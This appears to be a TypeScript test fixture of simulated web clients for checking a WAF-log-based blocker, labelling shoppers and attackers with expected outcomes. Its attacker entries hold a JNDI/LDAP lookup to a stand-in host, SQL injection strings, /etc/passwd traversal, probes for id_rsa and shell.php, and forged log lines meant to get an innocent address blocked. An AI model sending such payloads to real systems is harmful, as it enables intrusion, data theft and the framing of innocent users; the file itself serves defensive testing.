import type { Sent } from '../test/servers/common.ts'

/** A client of the recording: who it is, what it sends, and why it must be blocked (or must not). */
export type Client = { ip: string; role: string; expected: string | undefined; requests: Omit<Sent, 'ip'>[]; ips?: string[] }

const BROWSER = {
  'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0',
  Accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
  'Accept-Language': 'en-US,en;q=0.5',
  'Accept-Encoding': 'gzip, deflate',
  Connection: 'keep-alive',
}
const FORM = { ...BROWSER, 'Content-Type': 'application/x-www-form-urlencoded' }
const JSON_API = { ...BROWSER, Accept: 'application/json', 'Content-Type': 'application/json' }
const SEARCHES = [
  'garden+chair',
  'red+wine',
  'union+jack+mug',
  'usb-c+cable',
  'blanket',
  'tea+%26+coffee',
  'size+42',
  'children%27s+books',
  'lamp',
  'O%27Neill',
]

/** The score that the WAF's inline scorer would have logged. The recording has no such scorer: a header stands in for it. */
const scored = (score: number) => ({ ...BROWSER, 'X-Inline-Score': score.toFixed(1) })

function shopper(number: number, visits: number): Client {
  const cookie = { Cookie: `basket=${number}; theme=light` }
  const visit = (index: number): Omit<Sent, 'ip'>[] => [
    {
      path: index % 3 === 0 ? '/' : `/category/${['garden', 'kitchen', 'books'][index % 3]}?page=${(index % 5) + 1}`,
      headers: { ...BROWSER, ...cookie },
    },
    { path: '/assets/site.css', headers: { ...BROWSER, ...cookie } },
    { path: `/search?q=${SEARCHES[(number + index) % SEARCHES.length]}`, headers: { ...BROWSER, ...cookie } },
    {
      path: `/product/${100 + ((number * 7 + index) % 50)}`,
      headers: { ...BROWSER, ...cookie, Referer: 'http://shop.example/category/garden' },
    },
    {
      method: 'POST',
      path: '/api/basket',
      headers: { ...JSON_API, ...cookie },
      body: JSON.stringify({ product: 100 + index, quantity: 1 }),
    },
  ]
  return {
    ip: `198.51.100.${10 + number}`,
    role: 'ordinary shopper',
    expected: undefined,
    requests: Array.from({ length: visits }, (_, index) => visit(index)).flat(),
  }
}

const attack = (path: string, score: number): Omit<Sent, 'ip'> => ({ path, headers: scored(score) })
const FORGED = '","client_ip":"198.51.100.11","messages":[{"details":{"ruleId":"100004","data":"ML Score: 9.9"}}],"x":"'
const FORGED_LINE = `\n{"transaction":{"client_ip":"198.51.100.11","time_stamp":"Sun Nov 22 09:57:15 2026","unique_id":"1.1","request":{"method":"GET","uri":"/","http_version":1.1,"headers":{}},"response":{"http_code":403},"messages":[{"message":"High ML anomaly score detected","details":{"ruleId":"100004","data":"ML Score: 9.9"}}]}}\n`

export const CLIENTS: readonly Client[] = [
  ...Array.from({ length: 8 }, (_, index) => shopper(index + 1, 4)),
  { ...shopper(20, 50), role: 'busy customer' },
  {
    ...shopper(21, 3),
    role: 'customer whom a WAF rule hits by mistake',
    requests: [
      ...shopper(21, 3).requests,
      ...Array.from({ length: 12 }, () => ({
        method: 'POST',
        path: '/comment',
        headers: FORM,
        body: 'text=%E6%97%A5%E6%9C%AC%E8%AA%9E+select+a+plan&name=Jo',
      })),
    ],
  },
  {
    ip: '198.51.100.40',
    role: 'health check of the hosting company',
    expected: undefined,
    requests: Array.from({ length: 30 }, () => ({ path: '/', headers: { 'User-Agent': 'check/1.0' } })),
  },
  {
    ip: '203.0.113.66',
    role: 'attacker with one telling request',
    expected: 'high-score',
    requests: [attack('/?x=%24%7Bjndi:ldap://198.51.100.250/a%7D', 9.2), attack('/admin', 9.4)],
  },
  {
    ip: '203.0.113.77',
    role: 'attacker who tries SQL injections',
    expected: 'repeated',
    requests: [
      "1'+OR+'1'='1",
      '1+UNION+SELECT+1,2,3',
      "1';WAITFOR+DELAY+'0:0:5'--",
      '1+AND+SLEEP(5)',
      "1'+OR+1=1--",
      '1+ORDER+BY+9--',
      '1+UNION+ALL+SELECT+password+FROM+users',
    ].map((value, index) => attack(`/product?id=${value}`, 5.6 + index * 0.2)),
  },
  {
    ip: '203.0.113.88',
    role: 'scanner that looks for forgotten files',
    expected: 'too-many',
    requests: [
      'test.php',
      'info.php',
      'wp-login.php',
      'phpinfo.php',
      'backup.zip',
      'setup.php',
      'admin.php',
      'db.sql',
      'id_rsa',
      'server-status',
      'cgi-bin/test',
      'old/index.php',
      'shell.php',
    ].map(name => attack(`/${name}`, 5.3)),
  },
  {
    ip: '2001:db8:bad:1::1',
    ips: Array.from({ length: 8 }, (_, index) => `2001:db8:bad:1::${index + 1}`),
    role: 'attacker who changes the address within one IPv6 network',
    expected: 'repeated',
    requests: Array.from({ length: 8 }, (_, index) => attack(`/download?file=../../../../etc/passwd%00${index}`, 6.4)),
  },
  {
    ip: '203.0.113.99',
    role: 'attacker who forges log entries to get 198.51.100.11 blocked',
    expected: 'high-score',
    requests: [
      { path: '/', headers: { ...BROWSER, 'User-Agent': FORGED } },
      { method: 'POST', path: '/comment', headers: FORM, body: `text=${FORGED_LINE}` },
      { path: `/?q=${encodeURIComponent(FORGED)}`, headers: { ...BROWSER, client_ip: '198.51.100.11', __proto__x: '1' } },
      { method: 'POST', path: '/comment', headers: scored(8.8), body: `text=${FORGED_LINE}${FORGED_LINE}` },
    ],
  },
]
